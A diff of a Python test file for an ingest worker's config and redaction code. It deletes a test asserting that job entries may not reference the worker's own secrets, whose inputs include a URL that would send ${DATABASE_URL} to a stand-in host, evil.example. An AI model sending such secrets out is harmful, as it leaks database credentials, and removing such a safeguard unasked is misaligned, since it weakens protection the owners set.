@@ -3,9 +3,8 @@ import traceback
 
 import pytest
 
-from ingest_workers.core.config import WORKER_OWN_VARIABLES
 from ingest_workers.core.envrefs import resolve_entry
-from ingest_workers.core.errors import PermanentError, Refused
+from ingest_workers.core.errors import PermanentError
 from ingest_workers.core.redact import mask_url, redact, redact_exception
 from ingest_workers.ops.logs import redact_log_records
 
@@ -53,9 +52,3 @@ def test_values_a_job_resolved_are_shown_as_their_references(caplog: pytest.LogC
     assert caplog.messages[-1] == "token ${API_TOKEN}, redis redis://u:***@h/0"
 
 
-def test_a_job_may_not_name_the_worker_s_own_settings() -> None:
-    for entry in ({"name": "s", "url": "http://evil.example/?x=${DATABASE_URL}"},
-                  {"name": "s", "auth_env": "REDIS_URL"}, {"name": "s", "auth": {"password_env": "RQ_REDIS_URL"}}):
-        with pytest.raises(Refused, match="it names the worker's own setting"):
-            resolve_entry(entry, {"DATABASE_URL": "postgresql://u:pw@h/db", "REDIS_URL": "redis://h"}, "source s",
-                          WORKER_OWN_VARIABLES)
